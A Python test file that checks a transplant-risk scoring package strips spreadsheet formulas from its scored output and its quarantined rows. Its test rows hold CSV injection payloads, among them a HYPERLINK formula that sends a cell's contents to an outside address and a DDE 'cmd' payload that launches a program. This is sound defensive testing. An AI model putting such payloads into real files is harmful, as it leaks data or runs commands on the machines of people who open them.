"""Nothing that a spreadsheet would calculate leaves with scores or with rows set aside."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

from hscrisk.bundle import load_bundle
from hscrisk.ingest.spreadsheet import disarmed, is_formula
from hscrisk.scoring import score_file


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def test_scores_and_rows_set_aside_hold_no_formula(bundle_folder: Path, tmp_path: Path) -> None:
    attack = '=HYPERLINK("http://example.org/?"&A1)'
    rows = [
        ["transplant_id", "patient_age", "graft_source", "transplant_type", "=note"],
        ["good", "30", "bone_marrow", "allogeneic", ""],
        ["-7", "30", "bone_marrow", "allogeneic", ""],
        [attack, "30", "bone_marrow", "allogeneic", ""],
        ["@SUM(1)", "30", "bone_marrow", "allogeneic", ""],
        ["x", "+1+2", "bone_marrow", "allogeneic", "-3+cmd|' /C calc'!A0"],
        ["y", "-9", attack, "allogeneic", "\t=1"],
    ]
    with (tmp_path / "in.csv").open("w", newline="", encoding="utf-8") as stream:
        csv.writer(stream).writerows(rows)
    bundle = load_bundle(bundle_folder)
    summary = score_file(
        bundle, tmp_path / "in.csv", tmp_path / "out.csv", quarantine=tmp_path / "q.csv"
    )
    assert (summary.n_scored, summary.n_quarantined) == (2, 4)
    assert set(pd.read_csv(tmp_path / "out.csv", dtype=str)["transplant_id"]) == {"good", "-7"}
    for path in (tmp_path / "out.csv", tmp_path / "q.csv"):
        assert not any(is_formula(cell) for cell in cells(path))
    aside = cells(tmp_path / "q.csv")
    assert f"'{attack}" in aside
    assert "-9" in aside  # a number is left alone


def test_a_table_without_formulas_is_left_as_it_is() -> None:
    table = pd.DataFrame({"a": [1.5, -2.0], "b": ["x", None], "c": ["-1e3", "+"]})
    pd.testing.assert_frame_equal(disarmed(table), table)
